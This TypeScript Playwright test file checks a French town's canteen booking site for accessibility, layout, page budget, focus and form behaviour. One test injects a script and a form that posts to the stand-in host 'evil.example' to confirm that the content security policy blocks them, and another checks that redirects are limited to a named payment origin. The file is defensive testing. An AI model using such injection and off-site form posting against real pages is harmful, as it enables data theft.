import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { createRequire } from 'node:module'
import type { AddressInfo } from 'node:net'
import { after, test } from 'node:test'
import type { BrowserContext, Locator, Page } from 'playwright-core'
import { pageBudget } from '../../src/web/page-budget.ts'
import { launchChromium } from '../support/chromium.ts'
import { serveSamples } from './sample-town.ts'

const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')
const base = await serveSamples()
const browser = await launchChromium()
after(() => browser.close())

const information = ['/', '/aide', '/accessibilite', '/mentions-legales', '/donnees-personnelles', '/ecoconception']
const components = [
  '/form',
  '/lists',
  '/end',
  '/cantine',
  '/print',
  '/problem/404/not-found',
  '/problem/503/maintenance',
]
const everyPage = [...information, ...components, '/guichet']

// What runs inside the page is written as text: its names (`document` …) are not those of Node.

/** What axe finds wrong, as lines to read. */
async function faults(page: Page): Promise<string[]> {
  await page.evaluate(axe)
  return page.evaluate<string[]>(`axe.run().then(({ violations }) =>
    violations.map(({ id, nodes }) => id + ': ' + nodes.map(({ html }) => html.slice(0, 160)).join(' | ')))`)
}

const said = async (line: Locator) => ((await line.textContent()) ?? '').replace(/\s+/g, ' ').trim()

/** By how many pixels the page is wider than the screen. */
const overflow = (page: Page) =>
  page.evaluate<number>('document.documentElement.scrollWidth - document.documentElement.clientWidth')

async function on<T>(context: BrowserContext, use: (page: Page) => Promise<T>): Promise<T> {
  try {
    return await use(await context.newPage())
  } finally {
    await context.close()
  }
}

test('axe finds nothing on any page, on a phone and on a desk, in both languages', async () => {
  for (const context of [
    await browser.phone({ bypassCSP: true }),
    await browser.desk({ bypassCSP: true, locale: 'en-GB' }),
  ])
    await on(context, async page => {
      for (const path of everyPage) {
        await page.goto(base + path)
        assert.deepEqual(await faults(page), [], path)
        assert.ok((await overflow(page)) <= 0, `${path} is wider than the screen`)
      }
    })
})

test('axe finds nothing on a form with faults, nor in the open menu of a phone', async () => {
  await on(await browser.phone({ bypassCSP: true }), async page => {
    await page.goto(`${base}/form`)
    await page.getByRole('button', { name: 'Menu' }).click()
    assert.ok(await page.getByRole('link', { name: 'Ma famille' }).isVisible())
    assert.deepEqual(await faults(page), [])
    await page.getByRole('button', { name: 'Enregistrer', exact: true }).click()
    await page.getByText('Il y a un problème').waitFor()
    assert.deepEqual(await faults(page), [])
  })
})

test('nothing overflows at 320 pixels with letters twice as large', async () => {
  await on(await browser.desk({ viewport: { width: 320, height: 640 }, bypassCSP: true }), async page => {
    for (const path of everyPage) {
      await page.goto(base + path)
      await page.addStyleTag({ content: 'html{font-size:200%}' })
      assert.ok((await overflow(page)) <= 0, `${path}: ${await overflow(page)} px too wide`)
    }
  })
})

test('pages keep to the budget: weight, requests, hosts, errors', async () => {
  for (const path of ['/', '/form', '/lists', '/cantine', '/guichet', '/print'])
    await on(await browser.phone(), async page => {
      const hosts = new Set<string>()
      const errors: string[] = []
      let bytes = 0
      let requests = 0
      const devtools = await page.context().newCDPSession(page)
      await devtools.send('Network.enable')
      devtools.on('Network.loadingFinished', event => {
        bytes += event.encodedDataLength
        requests += 1
      })
      page.on('request', request => hosts.add(new URL(request.url()).origin))
      page.on('pageerror', error => errors.push(String(error)))
      page.on('console', message => {
        if (message.type() === 'error' && !message.text().includes('Failed to load resource'))
          errors.push(message.text())
      })
      await page.goto(base + path, { waitUntil: 'load' })
      assert.ok(bytes > 1_000 && bytes <= pageBudget.coldBytes, `${path}: ${bytes} bytes`)
      assert.ok(requests <= pageBudget.coldRequests, `${path}: ${requests} requests`)
      assert.deepEqual([...hosts], [base], path)
      assert.deepEqual(errors, [], path)
    })
})

test('links, boxes and buttons are large enough for a thumb', async () => {
  await on(await browser.phone(), async page => {
    for (const path of everyPage) {
      await page.goto(base + path)
      const small = await page.evaluate(`
        [...document.querySelectorAll('button, input:not([type=hidden]), select, summary, .app-card, nav a')]
          .map(element => ({ name: element.outerHTML.slice(0, 80), box: element.getBoundingClientRect() }))
          .filter(({ box }) => box.width > 1 && (box.height < 24 || box.width < 24))
          .map(({ name }) => name)`)
      assert.deepEqual(small, [], path)
    }
  })
})

test('after a form with faults, the focus is on the list of faults, and each leads to its input', async () => {
  await on(await browser.phone(), async page => {
    await page.goto(`${base}/form`)
    await page.getByRole('button', { name: 'Enregistrer', exact: true }).click()
    const summary = page.locator('[data-error-summary]')
    await summary.waitFor()
    assert.equal(await page.evaluate('document.activeElement.hasAttribute("data-error-summary")'), true)
    await page.getByRole('link', { name: 'Choisissez un repas' }).click()
    assert.equal(await page.evaluate('document.activeElement.id'), 'meal')
  })
})

test('the total follows the boxes, and a day that cannot change any more stays counted', async () => {
  await on(await browser.phone(), async page => {
    await page.goto(`${base}/cantine`)
    const total = page.getByRole('status')
    assert.match(await said(total), /15 repas, 31,50 €/)
    await page.locator('label[for="1-2026-12-03"]').click()
    assert.match(await said(total), /16 repas, 33,60 €/)
    await page.locator('label[for="0-2026-12-03"]').click()
    await page.locator('label[for="0-2026-12-04"]').click()
    assert.match(await said(total), /14 repas, 29,40 €/)
  })
})

test('without script, the total says what is saved, and everything can be reached', async () => {
  await on(await browser.phone({ javaScriptEnabled: false }), async page => {
    await page.goto(`${base}/cantine`)
    assert.match(await said(page.getByRole('status')), /Déjà enregistré : 15 repas, 31,50 €/)
    assert.ok(await page.getByRole('link', { name: 'Ma famille' }).isVisible(), 'the menu is open')
    await page.goto(`${base}/form`)
    assert.equal(await page.getByRole('button', { name: 'Afficher' }).count(), 0, 'no button that would do nothing')
  })
})

test('by keyboard, the bar at the bottom never hides what has the focus', async () => {
  await on(await browser.phone(), async page => {
    await page.goto(`${base}/cantine`)
    await page.locator('[id="0-2026-12-03"]').focus()
    for (let i = 0; i < 16; i++) {
      await page.keyboard.press('Tab')
      const hidden = await page.evaluate<boolean>(`(() => {
        const bar = document.querySelector('.app-bar').getBoundingClientRect()
        const { top, bottom } = document.activeElement.getBoundingClientRect()
        return !document.activeElement.closest('.app-bar') && bottom > bar.top + 1 && top < bar.bottom
      })()`)
      assert.ok(!hidden, `box ${i}`)
    }
  })
})

test('a password can be shown and is hidden again when it is sent', async () => {
  await on(await browser.phone(), async page => {
    await page.goto(`${base}/form`)
    const field = page.locator('#password')
    await field.fill('quatre mots bien choisis')
    await page.getByRole('button', { name: 'Afficher le mot de passe' }).click()
    assert.equal(await field.getAttribute('type'), 'text')
    await page.getByRole('button', { name: 'Masquer le mot de passe' }).click()
    assert.equal(await field.getAttribute('type'), 'password')
  })
})

test('a button pressed twice in a row sends once', async () => {
  await on(await browser.phone(), async page => {
    await page.goto(`${base}/form`)
    const sent = await page.evaluate<number>(`(async () => {
      const button = document.querySelector('form .govuk-button[type=submit]')
      let sent = 0
      button.form.addEventListener('submit', event => {
        event.preventDefault()
        sent += 1
      })
      button.click()
      await new Promise(resolve => setTimeout(resolve, 100))
      button.click()
      return sent
    })()`)
    assert.equal(sent, 1)
  })
})

test('the policy of our pages refuses an injected script and a form that leads elsewhere', async () => {
  await on(await browser.phone(), async page => {
    await page.goto(`${base}/aide`)
    const refused: string[] = []
    page.on('console', message => refused.push(message.text()))
    await page.evaluate(`
      const script = document.createElement('script')
      script.textContent = 'document.title = "taken"'
      document.body.append(script)
      const form = document.createElement('form')
      form.method = 'post'
      form.action = 'http://evil.example/'
      document.body.append(form)
      form.submit()`)
    await page.waitForTimeout(200)
    assert.notEqual(await page.title(), 'taken')
    assert.equal(new URL(page.url()).origin, base)
    assert.ok(
      refused.some(text => text.includes('form-action')),
      refused.join('\n'),
    )
  })
})

test('a form may lead to the payment page that was named, by a redirect, and to no other', async () => {
  const bank = createServer((_req, res) => res.end('<title>Bank</title>'))
  await new Promise<void>(resolve => bank.listen(0, '127.0.0.1', resolve))
  after(() => bank.close())
  const origin = `http://127.0.0.1:${(bank.address() as AddressInfo).port}`
  for (const [named, title] of [
    [[origin], 'Bank'],
    [[], 'Cantine'],
  ] as const) {
    const town = await serveSamples({}, named)
    await on(await browser.phone(), async page => {
      await page.goto(`${town}/cantine`)
      const action = `/cantine?then=${encodeURIComponent(origin)}`
      await page.evaluate(`document.forms[0].action = ${JSON.stringify(action)}`)
      await page.getByRole('button', { name: 'Enregistrer' }).click()
      await page.waitForTimeout(300)
      assert.ok((await page.title()).startsWith(title), `${named}: ${await page.title()}`)
    })
  }
})
